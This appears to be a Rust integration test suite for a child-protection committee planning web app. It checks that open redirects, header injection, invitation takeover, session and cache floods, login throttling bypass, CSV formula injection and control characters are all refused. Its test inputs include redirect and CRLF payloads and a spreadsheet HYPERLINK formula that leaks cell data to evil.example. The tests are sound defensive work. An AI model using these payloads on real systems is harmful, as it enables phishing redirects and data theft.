//! The holes found by trying the accounts as an attacker would, each proved closed through the
//! real router over a fresh database: return paths, pending accounts, session and cache
//! floods, throttling races, spreadsheet formulas, stale pages, headers and control characters.

mod common;

use axum::body::Body;
use axum::extract::ConnectInfo;
use axum::http::{header, Request, StatusCode};
use common::{database_digest, TestApp, HOST, ORIGIN};
use sqlx::PgPool;
use std::net::SocketAddr;

const LEAD: &str = "clacks.lead@example.org";
const FALKIRK_LEAD: &str = "falkirk.lead@example.org";
const CONTRIBUTOR: &str = "clacks.contributor@example.org";
const PLAN: &str = "/committees/clackmannanshire/plans/2023-25";

fn sign_in_request(email: &str, password: &str, next: &str, addr: &str, forwarded: Option<&str>) -> Request<Body> {
    let body = form_urlencoded::Serializer::new(String::new())
        .extend_pairs([("email", email), ("password", password), ("next", next)])
        .finish();
    let mut builder = Request::post("/api/sign_in")
        .header(header::HOST, HOST)
        .header(header::ORIGIN, ORIGIN)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
    if let Some(forwarded) = forwarded {
        builder = builder.header("x-forwarded-for", forwarded);
    }
    let mut request = builder.body(Body::from(body)).unwrap();
    let addr: SocketAddr = format!("{addr}:40000").parse().unwrap();
    request.extensions_mut().insert(ConnectInfo(addr));
    request
}

async fn session_rows(app: &TestApp) -> i64 {
    sqlx::query_scalar("select count(*) from tower_sessions.session").fetch_one(&app.pool).await.unwrap()
}

#[sqlx::test(migrations = "../migrations")]
async fn a_return_path_that_would_leave_the_site_or_break_the_header_signs_in_to_the_overview(pool: PgPool) {
    let app = TestApp::with_demo(pool).await;
    for next in [
        "/\t/evil.example/",
        "/\n/evil.example/",
        "/\u{b}/evil.example/",
        "/\r\nSet-Cookie: stolen=1",
        "//evil.example/",
        "/\\evil.example/",
        "https://evil.example/",
    ] {
        for as_form in [false, true] {
            let fields = [("email", LEAD), ("password", server::demo::DEMO_PASSWORD), ("next", next)];
            let signed_in = if as_form {
                app.post_form("/api/sign_in", &fields, None, "/sign-in").await
            } else {
                app.post("/api/sign_in", &fields, None).await
            };
            if next.contains('\u{b}') {
                // Not a character any form field takes: refused at the edge, before signing in.
                assert_eq!(signed_in.status, StatusCode::UNPROCESSABLE_ENTITY, "{next:?}");
                assert!(signed_in.session_cookie().is_none() && signed_in.location.is_empty());
                continue;
            }
            assert!(
                signed_in.status.is_success() || signed_in.status.is_redirection(),
                "{next:?}: {}",
                signed_in.status
            );
            assert_eq!(signed_in.location, "/", "{next:?} must not be followed (as form: {as_form})");
            assert!(signed_in.session_cookie().is_some(), "{next:?}: signed in all the same");
        }
    }
    // The sign-in page itself only ever carries a return path on this site.
    let page = app.get("/sign-in?next=%2F%0B%2Fevil.example%2F").await;
    assert_eq!(page.status, StatusCode::BAD_REQUEST, "a control character in the address");
    let page = app.get("/sign-in?next=%2F%2Fevil.example%2F").await;
    assert!(page.body.contains("name=\"next\" value=\"/\""), "the form returns to the overview");
    // An ordinary return path still brings the person back.
    let back = app
        .post(
            "/api/sign_in",
            &[("email", LEAD), ("password", server::demo::DEMO_PASSWORD), ("next", "/committees/stirling?x=1")],
            None,
        )
        .await;
    assert_eq!(back.location, "/committees/stirling?x=1");
}

/// The one-time link in a page's flash message, if there is one.
fn link_token(body: &str) -> Option<String> {
    let start = body.find("/invitations/")? + "/invitations/".len();
    Some(body[start..start + 64].to_owned())
}

async fn invite(app: &TestApp, cookie: &str, committee: &str, email: &str) -> common::TestResponse {
    let members = format!("/committees/{committee}/members");
    let fields =
        [("committee", committee), ("display_name", "Pending Person"), ("email", email), ("role", "lead_officer")];
    let invited = app.post_form("/api/invite_member", &fields, Some(cookie), &members).await;
    assert!(invited.status.is_redirection(), "{}", invited.status);
    app.get_with_cookie(&members, cookie).await
}

async fn accept(app: &TestApp, token: &str) -> StatusCode {
    let password = "a takeover passphrase";
    app.post("/api/accept_invitation", &[("token", token), ("password", password), ("confirm", password)], None)
        .await
        .status
}

#[sqlx::test(migrations = "../migrations")]
async fn one_committee_cannot_set_the_password_of_someone_another_committee_invited(pool: PgPool) {
    let app = TestApp::with_demo(pool).await;
    let falkirk = app.sign_in(FALKIRK_LEAD).await;
    let clacks = app.sign_in(LEAD).await;
    let email = "new.falkirk.lead@example.org";
    let falkirk_page = invite(&app, &falkirk, "falkirk", email).await;
    let falkirk_link = link_token(&falkirk_page.body).expect("Falkirk gets a link for someone new");

    // Clackmannanshire "invites" the same email: the membership, but no link, and says why.
    let before_links: i64 = sqlx::query_scalar("select count(*) from invitations").fetch_one(&app.pool).await.unwrap();
    let clacks_page = invite(&app, &clacks, "clackmannanshire", email).await;
    assert_eq!(link_token(&clacks_page.body), None, "no link for a person another committee invited");
    assert!(clacks_page.body.contains("invited by another committee or subgroup"), "the page says so");
    let after_links: i64 = sqlx::query_scalar("select count(*) from invitations").fetch_one(&app.pool).await.unwrap();
    assert_eq!(after_links, before_links, "no link was made");
    let member: bool = sqlx::query_scalar(
        "select exists (select 1 from committee_memberships m join people p on p.id = m.person_id
                         join committees c on c.id = m.committee_id where p.email = $1 and c.slug = 'clackmannanshire')",
    )
    .bind(email)
    .fetch_one(&app.pool)
    .await
    .unwrap();
    assert!(member, "the membership is added");

    // Falkirk's link still works, and the person then has both memberships.
    assert!(accept(&app, &falkirk_link).await.is_success());
}

#[sqlx::test(migrations = "../migrations")]
async fn a_lead_officer_gets_a_new_link_only_for_people_whose_every_membership_they_manage(pool: PgPool) {
    let app = TestApp::with_demo(pool).await;
    let clacks = app.sign_in(LEAD).await;
    let email = "pending.member@example.org";
    let first = link_token(&invite(&app, &clacks, "clackmannanshire", email).await.body).expect("a link");
    // Inviting again (say the first link was lost): a new link, and the first stops working.
    let members = "/committees/clackmannanshire/members";
    let person: uuid::Uuid =
        sqlx::query_scalar("select id from people where email = $1").bind(email).fetch_one(&app.pool).await.unwrap();
    sqlx::query("delete from committee_memberships where person_id = $1")
        .bind(person)
        .execute(&app.pool)
        .await
        .unwrap();
    let page = invite(&app, &clacks, "clackmannanshire", email).await;
    let second = link_token(&page.body).expect("a new link for someone only this committee invited");
    assert_ne!(first, second);
    assert!(page.body.contains("any earlier link of theirs no longer works"), "{}", &page.body[..200]);
    assert_eq!(accept(&app, &first).await, StatusCode::NOT_FOUND, "the earlier link is void");
    assert!(accept(&app, &second).await.is_success());

    // Someone with a password is added without a link.
    let page = invite(&app, &clacks, "clackmannanshire", "falkirk.member@example.org").await;
    assert_eq!(link_token(&page.body), None);
    assert!(page.body.contains("can sign in as usual"));
    let _ = members;
}

#[sqlx::test(migrations = "../migrations")]
async fn redeeming_a_link_voids_every_other_link_of_that_person(pool: PgPool) {
    let app = TestApp::with_demo(pool).await;
    let (one, one_hash) = app::server::auth::token::new_token();
    let (two, two_hash) = app::server::auth::token::new_token();
    // Two live links, as older versions could leave them (one per committee).
    sqlx::query(
        "with p as (insert into people (email, display_name) values ('twice@example.org', 'Twice') returning id)
         insert into invitations (person_id, token_hash, expires_at)
         select id, h, now() + interval '1 day' from p, unnest(array[$1, $2]) h",
    )
    .bind(&one_hash)
    .bind(&two_hash)
    .execute(&app.pool)
    .await
    .unwrap();
    assert!(accept(&app, &one).await.is_success());
    assert_eq!(accept(&app, &two).await, StatusCode::NOT_FOUND, "the other link died with the first one's use");
}

#[sqlx::test(migrations = "../migrations")]
async fn anonymous_refused_forms_come_back_in_the_answer_and_store_no_session(pool: PgPool) {
    let app = TestApp::with_demo(pool).await;
    let before = session_rows(&app).await;
    let big = "x".repeat(90_000);
    for i in 0..200 {
        let email = format!("nobody{i}@example.org");
        let refused = app
            .post_form("/api/sign_in", &[("email", &email), ("password", "wrong"), ("filler", &big)], None, "/sign-in")
            .await;
        assert!(refused.set_cookie.is_none(), "no session for an anonymous refusal");
        if i == 0 {
            assert_eq!(refused.status, StatusCode::UNAUTHORIZED, "{}", &refused.body[..refused.body.len().min(2000)]);
            assert!(refused.content_type.starts_with("text/html"));
            assert!(refused.body.contains("That email address and password do not match an account."));
            assert!(refused.body.contains(&format!("value=\"{email}\"")), "what was typed comes back");
            assert!(!refused.body.contains("value=\"wrong\""), "never the password");
        }
    }
    // A refused form to a function that needs a signed-in person, anonymously.
    let refused = app
        .post_form(
            "/api/update_action",
            &[
                ("action", "00000000-0000-4000-8000-000000000000"),
                ("version", "1"),
                ("status", "G"),
                ("progress", &big),
                ("evidence", ""),
            ],
            None,
            PLAN,
        )
        .await;
    assert_eq!(refused.status, StatusCode::UNAUTHORIZED);
    assert!(refused.body.contains("Please sign in to do that."), "the page says why");
    assert!(refused.set_cookie.is_none());
    assert_eq!(session_rows(&app).await, before, "nothing was stored for anyone");
}

#[sqlx::test(migrations = "../migrations")]
async fn what_a_refused_form_carries_back_for_a_signed_in_person_is_bounded(pool: PgPool) {
    let app = TestApp::with_demo(pool).await;
    let cookie = app.sign_in(CONTRIBUTOR).await;
    let field = "y".repeat(99_000);
    let fields: Vec<(String, String)> = (0..20).map(|i| (format!("extra{i}"), field.clone())).collect();
    let mut refs: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    refs.extend([("action", "not-an-action"), ("version", "1"), ("status", "G"), ("progress", ""), ("evidence", "")]);
    let refused = app.post_form("/api/update_action", &refs, Some(&cookie), PLAN).await;
    assert_eq!(refused.status, StatusCode::SEE_OTHER);
    let largest: i64 = sqlx::query_scalar("select max(length(data))::int8 from tower_sessions.session")
        .fetch_one(&app.pool)
        .await
        .unwrap();
    assert!(largest < 300 * 1024, "a session holds {largest} bytes after one refused form");

    // A field longer than any form takes is refused at the edge, by name, changing nothing.
    let before = database_digest(&app.pool).await;
    let long = "z".repeat(app::domain::text::MAX_FIELD_CHARS + 1);
    let r = app
        .post(
            "/api/update_action",
            &[("action", "x"), ("version", "1"), ("status", "G"), ("progress", &long), ("evidence", "")],
            Some(&cookie),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.body.contains("\"progress\""), "{}", &r.body[..r.body.len().min(300)]);
    assert_eq!(database_digest(&app.pool).await, before);
}

#[sqlx::test(migrations = "../migrations")]
async fn thirty_parallel_wrong_guesses_are_checked_at_most_five_times(pool: PgPool) {
    let app = TestApp::with_demo_and_pool_size(pool, 10).await;
    let requests: Vec<_> = (0..30)
        .map(|_| {
            let router = app.router();
            let request = sign_in_request(LEAD, "a wrong guess", "/", "192.0.2.10", None);
            tokio::spawn(async move { tower::ServiceExt::oneshot(router, request).await.unwrap().status() })
        })
        .collect();
    let mut checked = 0;
    let mut throttled = 0;
    for request in requests {
        match request.await.unwrap() {
            StatusCode::UNAUTHORIZED => checked += 1,
            StatusCode::TOO_MANY_REQUESTS => throttled += 1,
            other => panic!("unexpected {other}"),
        }
    }
    assert!(checked <= app::domain::account::ACCOUNT_ADDRESS_ATTEMPTS, "{checked} guesses were checked");
    assert_eq!(checked + throttled, 30);
}

#[sqlx::test(migrations = "../migrations")]
async fn behind_a_proxy_the_address_is_the_one_the_proxy_saw_not_the_clients_own_say(pool: PgPool) {
    server::demo::load_if_empty(&pool).await.unwrap();
    let app = TestApp::configured(pool, 5, |state| state.proxy_hops = 1);
    // Twenty wrong guesses at different accounts from one client that names a new address of
    // its own each time: all are counted against the address the proxy appended.
    for i in 0..app::domain::account::ADDRESS_ATTEMPTS {
        let forwarded = format!("10.9.{i}.1, 203.0.113.77");
        let r =
            app.send(sign_in_request(&format!("x{i}@example.org"), "guess", "/", "127.0.0.1", Some(&forwarded))).await;
        assert_eq!(r.status, StatusCode::UNAUTHORIZED);
    }
    let next = app
        .send(sign_in_request("falkirk.member@example.org", "guess", "/", "127.0.0.1", Some("10.99.0.1, 203.0.113.77")))
        .await;
    assert_eq!(next.status, StatusCode::TOO_MANY_REQUESTS);
    let other_client = app
        .send(sign_in_request(
            "falkirk.member@example.org",
            server::demo::DEMO_PASSWORD,
            "/",
            "127.0.0.1",
            Some("10.99.0.1, 198.51.100.5"),
        ))
        .await;
    assert!(other_client.status.is_success(), "{}", other_client.status);
}

/// The cells of a CSV export, row by row.
fn csv_cells(csv: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .from_reader(csv.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[sqlx::test(migrations = "../migrations")]
async fn an_exported_plan_never_holds_a_cell_a_spreadsheet_would_run(pool: PgPool) {
    let app = TestApp::with_demo(pool).await;
    let cookie = app.sign_in(CONTRIBUTOR).await;
    let planted = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open the evidence\")";
    let action = sqlx::query!(
        r#"select a.id, a.version from actions a join plan_actions pa on pa.action_id = a.id
             join plans p on p.id = pa.plan_id where p.slug = '2023-25' and a.owner_committee_id = p.committee_id
            order by pa.position limit 1"#
    )
    .fetch_one(&app.pool)
    .await
    .unwrap();
    let (id, version) = (action.id.to_string(), action.version.to_string());
    let updated = app
        .post(
            "/api/update_action",
            &[("action", &id), ("version", &version), ("status", "G"), ("progress", planted), ("evidence", "@SUM(1)")],
            Some(&cookie),
        )
        .await;
    assert!(updated.status.is_success(), "{}: {}", updated.status, updated.body);
    let export = app.get(&format!("{PLAN}/export.csv")).await;
    for row in csv_cells(&export.body) {
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} would run as a formula");
        }
    }
    assert!(export.body.contains("'=HYPERLINK("), "the text is kept, as text");
    // Importing the export gives the same text back, and exporting it again the same bytes.
    let parsed = app::domain::plan_csv::parse_plan_csv(export.body.as_bytes()).expect("the export imports");
    let progress: Vec<&str> = parsed
        .priorities
        .iter()
        .flat_map(|p| &p.outcomes)
        .flat_map(|o| &o.objectives)
        .flat_map(|o| &o.actions)
        .map(|a| a.progress.as_str())
        .collect();
    assert!(progress.contains(&planted));
    assert_eq!(app::domain::plan_csv::write_csv(&parsed.rows()), export.body);
}

/// Waits until a GET of `path` is no longer served from the cache (the change's
/// notification has arrived), or fails after two seconds.
async fn until_dropped(app: &TestApp, path: &str, what: &str) {
    for _ in 0..40 {
        if app.get(path).await.cache != "hit" {
            return;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    panic!("{what} did not drop the cached {path}");
}

async fn cached(app: &TestApp, path: &str) {
    app.get(path).await;
    assert_eq!(app.get(path).await.cache, "hit", "{path} is served from the cache");
}

#[sqlx::test(migrations = "../migrations")]
async fn every_kind_of_write_announces_itself_and_drops_cached_pages(pool: PgPool) {
    let app = TestApp::with_demo(pool).await.with_live_cache().await;
    let chair = app.sign_in("chair.protocols@example.org").await;
    let lead = app.sign_in(LEAD).await;
    let admin = app.sign_in("admin@example.org").await;
    let subgroup = "fv-policies-procedures-protocols";
    let version: String = sqlx::query_scalar(
        "select r.version::text from protocol_ratifications r join committees c on c.id = r.committee_id
           join protocol_versions v on v.id = r.protocol_version_id join protocols p on p.id = v.protocol_id
          where c.slug = 'clackmannanshire' and p.slug = 'fv-learning-review-protocol'",
    )
    .fetch_one(&app.pool)
    .await
    .unwrap();
    let protocol_version: String = sqlx::query_scalar(
        "select v.id::text from protocol_versions v join protocols p on p.id = v.protocol_id
          where p.slug = 'fv-learning-review-protocol'",
    )
    .fetch_one(&app.pool)
    .await
    .unwrap();
    type Write<'a> = (&'a str, &'a str, Vec<(&'a str, &'a str)>, &'a str);
    let writes: Vec<Write> = vec![
        (
            "a new protocol",
            "/api/create_protocol",
            vec![
                ("subgroup", subgroup),
                ("title", "FV Cache Test Protocol"),
                ("summary", ""),
                ("owner_name", ""),
                ("label", "Version 1"),
                ("document_url", "https://example.org/p.pdf"),
                ("body", ""),
                ("review_due_on", ""),
            ],
            &chair,
        ),
        (
            "a ratification",
            "/api/record_ratification",
            vec![
                ("protocol_version", &protocol_version),
                ("committee", "clackmannanshire"),
                ("state", "ratified"),
                ("decided_on", "2026-11-30"),
                ("reason", ""),
                ("version", &version),
            ],
            &lead,
        ),
        (
            "a new version",
            "/api/add_protocol_version",
            vec![
                ("protocol", "fv-learning-review-protocol"),
                ("label", "Version 9"),
                ("document_url", "https://example.org/v9.pdf"),
                ("body", ""),
                ("review_due_on", ""),
            ],
            &chair,
        ),
        (
            "a new committee",
            "/api/create_committee",
            vec![("name", "West Lothian CPC"), ("short_name", "West Lothian"), ("slug", "west-lothian")],
            &admin,
        ),
        (
            "a new subgroup",
            "/api/create_subgroup",
            vec![("name", "FV Data Subgroup"), ("short_name", "FV Data"), ("slug", "fv-data")],
            &admin,
        ),
    ];
    for (what, path, fields, cookie) in writes {
        cached(&app, "/").await;
        cached(&app, "/protocols").await;
        let r = app.post(path, &fields, Some(cookie)).await;
        assert!(r.status.is_success(), "{what}: {} {}", r.status, r.body);
        until_dropped(&app, "/", what).await;
        until_dropped(&app, "/protocols", what).await;
    }
    // Every table a page reads announces changes, whoever writes to it, from the database.
    let silent: Vec<String> = sqlx::query_scalar(
        "select c.relname::text from pg_class c
          where c.relnamespace = 'public'::regnamespace and c.relkind = 'r'
            and c.relname not in ('_sqlx_migrations', 'people', 'committee_memberships', 'subgroup_memberships',
                                  'invitations', 'audit_events', 'plan_imports', 'plan_status_counts')
            and not exists (select 1 from pg_trigger t join pg_proc f on f.oid = t.tgfoid
                             where t.tgrelid = c.oid and f.proname = 'announce_change')
          order by 1",
    )
    .fetch_all(&app.pool)
    .await
    .unwrap();
    assert!(silent.is_empty(), "tables whose changes no page would hear of: {silent:?}");
}

#[sqlx::test(migrations = "../migrations")]
async fn junk_query_strings_cannot_crowd_out_the_page_cache(pool: PgPool) {
    let app = TestApp::with_demo(pool).await.with_live_cache().await;
    // The test cache holds 100 pages: many times that in junk addresses.
    for i in 0..300 {
        app.get(&format!("{PLAN}?x={i}")).await;
        app.get(&format!("{PLAN}?lead=nobody-{i}")).await;
    }
    let (entries, _) = app.cache.usage();
    assert!(entries <= 2, "junk made {entries} entries");
    cached(&app, "/protocols").await;
    cached(&app, &format!("{PLAN}?status=p")).await;
    assert_eq!(app.get(&format!("{PLAN}?x=7&status=p")).await.cache, "hit", "the same page whatever junk it carries");
    // A real filter value is still cached; an unknown one never is.
    cached(&app, &format!("{PLAN}?lead=Lead+Officer")).await;
    assert_ne!(app.get(&format!("{PLAN}?lead=nobody-1")).await.cache, "hit");
}

#[sqlx::test(migrations = "../migrations")]
async fn every_response_carries_the_security_headers_and_pages_run_only_the_scripts_allowed(pool: PgPool) {
    let app = TestApp::with_demo(pool).await;
    for path in ["/", PLAN, "/sign-in", "/healthz", "/no-such-page", "/pkg/forth.css"] {
        let r = app.get(path).await;
        let csp = r.headers.get(header::CONTENT_SECURITY_POLICY).and_then(|v| v.to_str().ok()).unwrap_or_default();
        assert!(csp.contains("frame-ancestors 'none'") && csp.contains("object-src 'none'"), "{path}: {csp:?}");
        assert!(!csp.contains("unsafe-inline"), "{path}: {csp}");
        assert_eq!(r.headers.get(header::X_CONTENT_TYPE_OPTIONS).unwrap(), "nosniff", "{path}");
        assert_eq!(r.headers.get(header::REFERRER_POLICY).unwrap(), "same-origin", "{path}");
        assert!(r.headers.get(header::STRICT_TRANSPORT_SECURITY).is_some(), "{path}: Secure cookies, so HSTS");
        if r.content_type.starts_with("text/html") && r.status != StatusCode::BAD_REQUEST {
            let nonce = policy_nonce(csp).expect("a page's policy names its nonce");
            for (script_nonce, script) in inline_scripts(&r.body) {
                assert_eq!(
                    script_nonce.as_deref(),
                    Some(nonce),
                    "{path}: an inline script the policy would block: {script:.80}"
                );
            }
            assert!(!r.body.contains(" style=\""), "{path}: an inline style attribute the policy would block");
        } else {
            assert!(csp.contains("script-src 'none'"), "{path}: {csp}");
        }
    }
    // A page served again from the cache carries a fresh nonce, in its policy and its scripts.
    let cached = TestApp::with_pool_size(app.pool.clone(), 2).with_live_cache().await;
    let mut nonces = std::collections::BTreeSet::new();
    for _ in 0..3 {
        let r = cached.get("/protocols").await;
        let csp = r.headers.get(header::CONTENT_SECURITY_POLICY).unwrap().to_str().unwrap().to_owned();
        let nonce = policy_nonce(&csp).unwrap().to_owned();
        for (script_nonce, _) in inline_scripts(&r.body) {
            assert_eq!(script_nonce.as_deref(), Some(nonce.as_str()), "a served-again page's scripts carry its nonce");
        }
        nonces.insert(nonce);
    }
    assert_eq!(cached.get("/protocols").await.cache, "hit");
    assert_eq!(nonces.len(), 3, "every answer has its own nonce");
    // Plain HTTP on one's own machine: no HSTS.
    let plain = TestApp::configured(app.pool.clone(), 2, |state| state.secure_cookies = false);
    assert!(plain.get("/").await.headers.get(header::STRICT_TRANSPORT_SECURITY).is_none());
}

#[sqlx::test(migrations = "../migrations")]
async fn control_characters_are_refused_at_the_edge_and_never_answer_500(pool: PgPool) {
    let app = TestApp::with_demo(pool).await;
    let lead = app.sign_in(LEAD).await;
    let before = database_digest(&app.pool).await;
    for (path, field) in [
        ("/api/committee", "committee"),
        ("/api/subgroup", "subgroup"),
        ("/api/plan", "committee"),
        ("/api/audit", "committee"),
        ("/api/plan_import_start", "committee"),
        ("/api/plan_import", "upload"),
        ("/api/protocol", "protocol"),
    ] {
        let r = app
            .post(
                path,
                &[(field, "clack\0mannanshire"), ("committee", "clackmannanshire"), ("plan", "2023-25")],
                Some(&lead),
            )
            .await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{path}: {}", r.body);
        assert!(r.body.contains("control character"), "{path}: {}", r.body);
    }
    for path in ["/committees/%00", "/committees/clackmannanshire/plans/2023-25?lead=%00", "/protocols/a%01b"] {
        let r = app.get(path).await;
        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{path}");
    }
    assert_eq!(database_digest(&app.pool).await, before);
    // The plan file route: a NUL inside a cell is a problem of that cell, never a 500.
    let csv =
        "priority,outcome_number,outcome,objective_number,objective,action,lead,timescale,evidence,progress,status\r\n\
               Leadership,1,,1.1,Members,Act\0ion,Lead Officer,,,,\r\n";
    let r = app.post_upload("/committees/clackmannanshire/plans/import", &[("file", csv)], Some(&lead)).await;
    assert!(r.status.is_redirection() || r.status.is_client_error(), "{}", r.status);
    let preview = app.get_with_cookie(&r.location, &lead).await;
    assert!(preview.body.contains("control character"), "the preview names the cell's problem");
}

/// The nonce a Content-Security-Policy names (`'nonce-…'`), read independently of the server.
fn policy_nonce(csp: &str) -> Option<&str> {
    let (_, after) = csp.split_once("'nonce-")?;
    after.split('\'').next()
}

/// Each inline script of a page (no `src`) with the nonce its tag carries.
fn inline_scripts(html: &str) -> Vec<(Option<String>, String)> {
    html.split("<script")
        .skip(1)
        .filter_map(|piece| {
            let (tag, rest) = piece.split_once('>')?;
            let (body, _) = rest.split_once("</script>")?;
            (!tag.contains("src=")).then(|| {
                let nonce = tag.split("nonce=\"").nth(1).and_then(|n| n.split('"').next()).map(str::to_owned);
                (nonce, body.to_owned())
            })
        })
        .collect()
}
